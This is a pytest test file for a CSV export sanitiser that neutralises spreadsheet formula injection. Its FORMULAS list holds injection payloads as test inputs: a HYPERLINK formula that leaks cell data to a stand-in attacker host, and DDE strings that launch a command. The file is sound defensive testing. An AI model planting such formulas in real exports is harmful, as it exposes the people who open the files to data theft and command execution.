import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.exports.inert import inert, inert_row, inert_text

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\0=1+1",
    "\uff1d1+1",
    "\uff20SUM(1)",
    "-",
    "=",
    "-5-5",
    "+44 20 7946 0000",
    "\tindented",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_are_made_text(formula: str) -> None:
    assert inert(formula) == f"'{formula}"


@pytest.mark.parametrize(
    "text", ["", "Access policy", "a=b", "1 + 1", "3-4", "'quoted", "e-mail@example.org", "–", "§ 4.2"]
)
def test_other_text_is_left_alone(text: str) -> None:
    assert inert(text) == text


@pytest.mark.parametrize("number", ["-5", "+5", "-0.25", "12", "-1.5e-3", "+1E9"])
def test_text_that_is_a_number_is_left_alone(number: str) -> None:
    assert inert(number) == number


@pytest.mark.parametrize("value", [-5, 0, -0.25, Decimal("-1.50"), True, False, None])
def test_numbers_stay_numbers(value: object) -> None:
    assert inert(value) is value


def test_dates_are_written_as_iso_8601() -> None:
    at = dt.datetime(2026, 11, 12, 14, 5, tzinfo=dt.UTC)
    assert inert_row([at.date(), at, at.time()]) == ["2026-11-12", "2026-11-12T14:05:00+00:00", "14:05:00"]


def test_other_objects_are_made_inert_by_their_words() -> None:
    class Sneaky:
        def __str__(self) -> str:
            return "=1+1"

    assert inert(Sneaky()) == "'=1+1"


@given(st.text(max_size=8))
def test_nothing_inert_begins_like_a_formula(text: str) -> None:
    result = inert_text(text)
    assert result.removeprefix("'") == text.removeprefix("'")
    assert not result.strip().startswith(("=", "@"))
    if result.strip().startswith(("+", "-")):
        float(result)


@given(st.lists(st.text(alphabet='=+-@,"\r\n\t ab1', max_size=6), min_size=1, max_size=4))
def test_cells_survive_being_written_and_read(cells: list[str]) -> None:
    file = io.StringIO(newline="")
    csv.writer(file).writerow(inert_row(cells))
    (read,) = csv.reader(io.StringIO(file.getvalue(), newline=""))
    assert read == inert_row(cells)
